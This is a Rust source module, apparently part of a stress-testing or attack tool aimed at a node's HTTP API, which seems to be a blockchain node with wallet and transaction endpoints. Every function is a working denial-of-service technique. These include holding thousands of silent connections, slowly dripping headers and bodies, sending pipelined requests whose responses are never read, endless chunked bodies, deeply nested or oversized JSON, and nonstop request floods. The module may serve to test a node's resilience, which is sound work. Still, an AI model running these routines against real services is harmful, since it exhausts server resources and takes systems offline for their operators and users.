//! Abuse of what HTTP allows.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::thread::sleep;
use std::time::Duration;

use super::Attack;
use super::socket::{connect, is_ended, write_some};

/// Connections that one thread holds.
const SILENT: usize = 2_500;
const HELD: usize = 150;

/// How long a thread rests after it has served all of its connections.
const REST: Duration = Duration::from_millis(5);

/// Keeps so many connections open, and serves each in turn; `serve` says whether one is still of use.
pub(super) fn hold(
    attack: &Attack,
    count: usize,
    open: impl Fn() -> Option<TcpStream>,
    serve: impl Fn(&mut TcpStream) -> bool,
) {
    let mut held: Vec<TcpStream> = Vec::new();
    while attack.goes_on() {
        held.retain_mut(&serve);
        for _ in held.len()..count {
            if !attack.goes_on() {
                return;
            }
            let Some(socket) = open() else { break };
            attack.count();
            held.push(socket);
        }
        sleep(REST);
    }
}

/// Opens a connection and sends the beginning of a request.
fn begin(attack: &Attack, text: &str) -> Option<TcpStream> {
    let mut socket = connect(attack.target.address)?;
    socket.write_all(text.as_bytes()).ok()?;
    Some(socket)
}

fn head(attack: &Attack, method: &str, path: &str) -> String {
    format!("{method} {path} HTTP/1.1\r\nHost: {}\r\n", attack.target.address)
}

pub fn say_nothing(attack: &Attack) {
    hold(attack, SILENT, || connect(attack.target.address), |socket| !is_ended(socket));
}

pub fn drip_heads(attack: &Attack) {
    let start = head(attack, "GET", "/api/v1/status") + "X-Slow: ";
    hold(attack, HELD, || begin(attack, &start), |socket| write_some(socket, b"x"));
}

pub fn drip_bodies(attack: &Attack) {
    let start = head(attack, "POST", "/api/v1/laboratory/hash")
        + "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n";
    hold(attack, HELD, || begin(attack, &start), |socket| write_some(socket, b" "));
}

pub fn never_read_answers(attack: &Attack) {
    // Together they are far more than sockets hold.
    let requests = (head(attack, "GET", "/api/v1/openapi.json") + "\r\n").repeat(100);
    hold(attack, HELD, || begin(attack, &requests), |socket| write_some(socket, requests.as_bytes()));
}

pub fn never_read_events(attack: &Attack) {
    let request = head(attack, "GET", "/api/v1/events") + "\r\n";
    // A node that has enough of them says so and then waits for another request.
    hold(attack, HELD, || begin(attack, &request), |socket| write_some(socket, b"\r\n"));
}

/// Opens one connection after the other, and writes to each until the node ends it.
fn pour(attack: &Attack, start: &str, more: &[u8]) {
    while attack.goes_on() {
        let Some(mut socket) = begin(attack, start) else { continue };
        attack.count();
        while attack.goes_on() && socket.write_all(more).is_ok() {}
    }
}

pub fn endless_heads(attack: &Attack) {
    let lines = "X-Long: and on and on\r\n".repeat(40);
    pour(attack, &head(attack, "GET", "/"), lines.as_bytes());
}

pub fn endless_bodies(attack: &Attack) {
    let start = head(attack, "POST", "/api/v1/transactions")
        + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
    let chunk = [b"1000\r\n".as_slice(), &[b' '; 0x1000], b"\r\n"].concat();
    pour(attack, &start, &chunk);
}

pub fn worthless_bodies(attack: &Attack) {
    let bodies =
        ["[".repeat(60_000), "{\"a\":".repeat(12_000), format!("{{\"to\":\"{}\"}}", "\\u0000".repeat(9_000))];
    let requests = bodies.map(|body| {
        let length = body.len();
        head(attack, "POST", "/api/v1/wallet/send")
            + &format!("Connection: close\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n{body}")
    });
    while attack.goes_on() {
        for request in &requests {
            let Some(mut socket) = begin(attack, request) else { continue };
            attack.count();
            // How it is answered, others look at.
            let _ = socket.read_to_end(&mut Vec::new());
        }
    }
}

pub fn ask_without_pause(attack: &Attack) {
    let requests = ["/api/v1/blocks?limit=100", "/api/v1/status", "/api/v1/charts", "/metrics", "/"];
    let requests = requests.map(|path| head(attack, "GET", path) + "Connection: close\r\n\r\n");
    while attack.goes_on() {
        for request in &requests {
            let Some(mut socket) = begin(attack, request) else { continue };
            attack.count();
            // As above.
            let _ = socket.read_to_end(&mut Vec::new());
        }
    }
}
